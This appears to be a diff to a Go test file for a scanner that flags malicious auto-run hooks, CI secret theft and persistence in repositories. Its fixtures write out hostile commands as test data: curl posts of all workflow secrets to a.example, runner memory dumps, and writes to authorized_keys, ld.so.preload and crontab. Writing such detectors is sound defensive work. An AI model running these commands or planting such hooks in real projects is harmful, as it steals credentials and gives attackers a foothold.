@@ -21,13 +21,18 @@ func TestAutostart(t *testing.T) {
 		}},
 		{".devcontainer/devcontainer.json", "autostart", []string{
 			"\"postCreateCommand\": \"./x.sh\"\n", "\"initializeCommand\": \"npm install && x\"\n",
+			"{ \"postCreateCommand\": \"npm install\", \"initializeCommand\": \"node x.js\" }\n",
 		}},
 		{".devcontainer/a/devcontainer.json", "autostart", []string{"\"postCreateCommand\": \"./x.sh\"\n"}},
 		{"a.code-workspace", "autostart", []string{"\"runOn\": \"folderOpen\"\n"}},
 		{".envrc", "autostart", []string{"eval \"$(x)\"\n"}},
 		{".nvim.lua", "autostart", []string{"vim.fn.system('x')\n"}},
 		{".dir-locals.el", "autostart", []string{"((nil . ((eval . (shell-command \"x\")))))\n"}},
-		{"mise.toml", "autostart", []string{"[hooks]\nenter = 'x'\n"}},
+		{"mise.toml", "autostart", []string{"[hooks]\nenter = 'x'\n", "[ hooks ]\n", "[\"hooks\"]\n"}},
+		{".config/mise/config.toml", "autostart", []string{"[hooks]\nenter = 'x'\n"}},
+		{".windsurf/hooks.json", "autostart", []string{"\"command\": \"x\"\n"}},
+		{".kiro/hooks/a.kiro.hook", "autostart", []string{"{ \"type\": \"runCommand\", \"command\": \"x\" }\n"}},
+		{".kiro/settings/mcp.json", "autostart", []string{"\"command\": \"x\"\n"}},
 		{".npmrc", "autostart", []string{"script-shell=./x\n", "node-options=--require ./x.js\n"}},
 		{".claude/settings.json", "", []string{"{ \"permissions\": { \"allow\": [ \"Bash(npm test)\" ] } }\n"}},
 		{".vscode/tasks.json", "", []string{"{ \"tasks\": [ { \"label\": \"build\", \"command\": \"make\" } ] }\n"}},
@@ -86,6 +91,7 @@ func TestInstallHook(t *testing.T) {
 func TestWorkflowGrab(t *testing.T) {
 	check(t, []hits{
 		{".github/workflows/a.yml", "workflow-grab", []string{
+			"env:\n  A: ${{ toJSON(  secrets ) }}\n",
 			"env:\n  A: ${{ toJSON(secrets) }}\nrun: curl -d \"$A\" https://a.example\n",
 			"env:\n  A: ${{ toJson( secrets ) }}\nrun: echo \"$A\" | base64\n",
 			"run: curl -d \"x=${{ secrets.TOKEN }}\" https://a.example\n",
@@ -96,6 +102,8 @@ func TestWorkflowGrab(t *testing.T) {
 			"run: pid=$(pgrep Runner.Worker); sudo cat /proc/$pid/mem | x\n",
 		}},
 		{"action.yml", "workflow-grab", []string{"run: printenv | base64 -w0\n"}},
+		{"entrypoint.sh", "workflow-grab", []string{"pgrep Runner.Worker | xargs dump\n"}},
+		{"tools/a.sh", "", []string{"cp ~/.ssh/authorized_keys old\n", "grep k ~/.ssh/authorized_keys > /dev/null\n"}},
 		{".github/workflows/a.yml", "", []string{
 			"run: echo \"${{ secrets.KEY }}\" | base64 -d > key.p12\n",
 			"run: curl -H \"Authorization: Bearer ${{ secrets.TOKEN }}\" -d '{}' https://a.example\n",
@@ -112,6 +120,7 @@ func TestWorkflowGrab(t *testing.T) {
 func TestFoothold(t *testing.T) {
 	check(t, []hits{
 		{"tools/a.sh", "foothold", []string{
+			"cp k ~/.ssh/authorized_keys\n", "cat k > ~/.ssh/authorized_keys\n", "install -m600 k \"$HOME/.ssh/authorized_keys\"\n",
 			"echo \"$KEY\" >> ~/.ssh/authorized_keys\n", "echo /lib/x.so > /etc/ld.so.preload\n",
 			"(crontab -l; echo x) | crontab -\n",
 			"./config.sh --url https://github.com/a --token x\n", "git config --global core.fsmonitor ./x\n",
